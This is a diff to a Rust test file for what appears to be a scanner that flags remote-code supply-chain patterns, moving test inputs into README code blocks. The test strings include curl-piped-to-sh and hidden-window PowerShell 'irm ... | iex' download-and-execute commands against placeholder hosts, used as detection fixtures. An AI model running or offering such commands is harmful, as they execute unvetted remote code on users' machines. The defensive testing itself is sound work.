@@ -34,8 +34,8 @@ fn round_15_code_from_an_address_the_text_hides() {
     // documentation, and a URL check listing both schemes.
     assert_eq!(
         run(
-            "get.sh",
-            "U=\"https://dl.tool.example/boot\"\ncurl -s \"$U\" | sh\n"
+            "README.md",
+            "# Boot\n\n```sh\nU=\"https://dl.tool.example/boot\"\ncurl -s \"$U\" | sh\n```\n"
         ),
         Some(High)
     );
@@ -77,14 +77,19 @@ fn round_15_hidden_source_shapes() {
 #[test]
 fn round_15_abbreviated_hidden_window() {
     let rule = "supply_chain.remote-code";
+    // Documentation examples (in a script the bundle ships all three are critical anyway).
+    let run = |line: &str| {
+        let doc = format!("# Fix\n\n```powershell\n{line}```\n");
+        worst(&[("README.md", &doc)], rule)
+    };
     let short = "powershell -w h -nop -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
-    assert_eq!(worst(&[("fix.ps1", short)], rule), Some(Critical));
+    assert_eq!(run(short), Some(Critical));
     let prefix = "powershell -win hid -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
-    assert_eq!(worst(&[("fix.ps1", prefix)], rule), Some(Critical));
+    assert_eq!(run(prefix), Some(Critical));
     // `-w` of another tool, or a visible window, is not a hidden one.
     let visible =
         "powershell -WindowStyle Normal -c \"irm https://fix.tool.example/a.ps1 | iex\"\n";
-    assert_eq!(worst(&[("fix.ps1", visible)], rule), Some(High));
+    assert_eq!(run(visible), Some(High));
 }
 
 #[test]
